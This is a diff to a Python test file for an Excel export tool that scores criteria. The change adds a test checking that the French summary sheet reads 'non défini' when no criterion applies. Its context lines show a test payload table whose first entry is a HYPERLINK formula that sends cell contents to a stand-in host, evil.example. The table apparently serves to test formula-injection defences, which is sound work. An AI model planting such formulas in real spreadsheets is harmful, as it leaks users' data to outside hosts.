@@ -16,7 +16,8 @@ from labelnr.excel.export import DANGEROUS_PREFIXES, sheet_name
 from labelnr.excel.meta import LISTS_SHEET, META_SHEET
 from labelnr.excel.model import EvidenceEntry, HistoryEntry
 from labelnr.loader import LoadedReferential
-from labelnr.referential import EvidenceType
+from labelnr.referential import EvidenceType, Referential
+from labelnr.scoring import score
 
 PAYLOADS = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -310,3 +311,19 @@ def test_real_referential_and_demo_file(real_catalog: object) -> None:
     listed = [row[0] for name in theme_sheets for row in book[name].iter_rows(min_row=2, values_only=True)]
     assert listed == [c.id for c in data.criteria]
     assert len(data.actual) == 2  # the baseline file next to it gives the other actual point
+
+
+def test_summary_says_undefined_when_nothing_applies(mini: LoadedReferential) -> None:
+    # Every criterion N/A: no score at all, written so (not 0 points, not 0 %), per theme too.
+    data = mini.referential.model_dump()
+    for crit in data["criteria"]:
+        crit["not_applicable"] = {"allowed": True}
+    every = Referential.model_validate(data)
+    nothing = score(every, {cid: Answer(not_applicable=NotApplicable(reason="x", justification="y"))
+                            for cid in every.criteria_by_id})
+    book = open_book(exported(make_data(mini, self_scores=nothing, verified_scores=nothing)))
+    summary = {row[0]: row[1:3] for row in book["Synthèse"].iter_rows(values_only=True) if row[0]}
+    undefined = ("non défini (aucun critère applicable)",) * 2
+    assert summary["Points (sur 1000)"] == undefined
+    assert summary["Pourcentage"] == undefined
+    assert summary["Thème A"] == undefined
